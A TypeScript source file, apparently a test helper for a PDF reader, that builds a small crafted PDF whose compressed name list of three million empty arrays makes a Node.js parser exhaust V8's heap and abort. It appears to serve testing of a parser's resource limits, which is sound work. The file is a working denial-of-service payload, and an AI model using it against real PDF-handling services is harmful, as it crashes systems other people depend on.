import { deflateSync } from 'node:zlib';

/**
 * A PDF of some kilobytes over which the reader ends its process: a packed list of three million empty lists as names
 * of attached files. Each becomes a key of a table, which V8 enlarges in one piece beyond the heap's limit; it aborts
 * then. Nothing of it is an array of bytes, which the reading counts.
 * @param lists how many; in a process of Node's little more than 2 ** 21 do, at which its table is enlarged so
 */
export function exhaustingPdf(lists = 3_000_000): Buffer {
  const parts: Buffer[] = [];
  const offsets = new Map<number, number>();
  const add = (...texts: readonly (string | Buffer)[]): void => {
    for (const text of texts) parts.push(typeof text === 'string' ? Buffer.from(text, 'latin1') : text);
  };
  const object = (id: number, ...body: readonly (string | Buffer)[]): void => {
    offsets.set(id, Buffer.concat(parts).length);
    add(`${id} 0 obj\n`, ...body, '\nendobj\n');
  };
  add('%PDF-1.5\n');
  object(1, '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>');
  object(2, '<</Type/Pages/Kids[3 0 R]/Count 1>>');
  object(3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>');
  const names = deflateSync(`4 0 <</Names[${'[]0 '.repeat(lists)}]>>`, { level: 9 });
  object(5, `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${names.length}>>\nstream\n`, names, '\nendstream');
  const start = Buffer.concat(parts).length;
  offsets.set(6, start);
  // A table as a stream (ISO 32000-1, 7.5.8): of each object the kind, its place, and its generation or index.
  const row = (kind: number, place = 0, index = 0): Buffer => {
    const bytes = Buffer.alloc(7);
    bytes[0] = kind;
    bytes.writeUInt32BE(place, 1);
    bytes.writeUInt16BE(index, 5);
    return bytes;
  };
  const rows = [row(0, 0, 65_535), ...[1, 2, 3].map((id) => row(1, offsets.get(id))), row(2, 5)];
  const table = Buffer.concat([...rows, ...[5, 6].map((id) => row(1, offsets.get(id)))]);
  object(6, `<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length ${table.length}>>\nstream\n`, table, '\nendstream');
  add(`startxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
}
